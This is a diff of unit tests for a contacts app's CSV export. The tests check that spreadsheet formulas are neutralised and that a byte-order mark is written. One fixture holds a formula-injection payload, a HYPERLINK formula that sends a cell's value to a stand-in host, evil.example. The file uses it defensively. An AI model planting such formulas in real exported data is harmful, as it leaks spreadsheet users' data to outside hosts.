@@ -628,7 +628,7 @@ describe('vCard', () => {
 
 describe('exports', () => {
   const jane = contactOf({ id: 'c1', name: 'Jane Doe', company: '=HYPERLINK("x")', emails: ['jane@acme.com'], tags: ['a', 'b'] });
-  const bob = contactOf({ id: 'c2', name: 'Bob, "the" Builder', notes: 'multi\nline' });
+  const bob = contactOf({ id: 'c2', name: 'Bob, "the" Builder', notes: '=HYPERLINK("https://evil.example/?q="&A2,"Open")\nsecond line' });
 
   it('CSV: one row per contact with the last interaction, formulas neutralised', () => {
     const interactions = [
@@ -637,12 +637,15 @@ describe('exports', () => {
       Interaction.parse({ id: 'i2', contactId: 'c1', at: new Date(2026, 5, 3, 23, 30).getTime(), channel: 'email', summary: 'Sent CV' }),
     ];
     const csv = exportContactsCsv([jane, bob], interactions);
-    const lines = csv.split('\r\n');
+    // A byte-order mark, so Excel reads the file as UTF-8.
+    expect(csv.startsWith('\uFEFFName,')).toBe(true);
+    const lines = csv.slice(1).split('\r\n');
     expect(lines[0]).toBe(
       'Name,Title,Company,Location,Emails,Phones,Profile URL,Relationship,Warmth,Tags,Notes,Last interaction,Last interaction channel,Last interaction summary',
     );
     expect(lines[1]).toBe(`Jane Doe,,"'=HYPERLINK(""x"")",,jane@acme.com,,,Other,cold,a; b,,2026-06-03,email,Sent CV`);
-    expect(lines[2]).toBe('"Bob, ""the"" Builder",,,,,,,Other,cold,,"multi\nline",,,');
+    // A formula over two lines is a formula too.
+    expect(lines[2]).toBe('"Bob, ""the"" Builder",,,,,,,Other,cold,,"\'=HYPERLINK(""https://evil.example/?q=""&A2,""Open"")\nsecond line",,,');
     expect(lines).toHaveLength(4);
     expect(lines[3]).toBe('');
   });
@@ -653,7 +656,7 @@ describe('exports', () => {
       Interaction.parse({ id: 'i1', contactId: 'c1', at: new Date(2026, 0, 2, 9).getTime(), channel: 'call', summary: 'Intro', received: ['information', 'contacts'], link: 'https://mail.example/t/1' }),
     ];
     expect(exportInteractionsCsv(interactions, [jane, bob]).split('\r\n')).toEqual([
-      'Date,Contact,Channel,Summary,Received,Gave,Link',
+      '\uFEFFDate,Contact,Channel,Summary,Received,Gave,Link',
       '2026-01-02,Jane Doe,call,Intro,information; contacts,,https://mail.example/t/1',
       `2026-06-03,"Bob, ""the"" Builder",email,"'=SUM(1)",,referrals,`,
       '',
